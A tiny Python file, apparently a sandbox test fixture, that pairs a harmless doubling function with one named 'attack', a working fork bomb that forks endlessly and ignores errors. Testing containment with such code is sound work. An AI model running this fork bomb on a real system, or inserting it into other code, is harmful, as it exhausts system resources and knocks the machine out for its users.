"""Forks without end; every child forks too."""
import os


def attack(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def innocent(x):
    return 2 * x
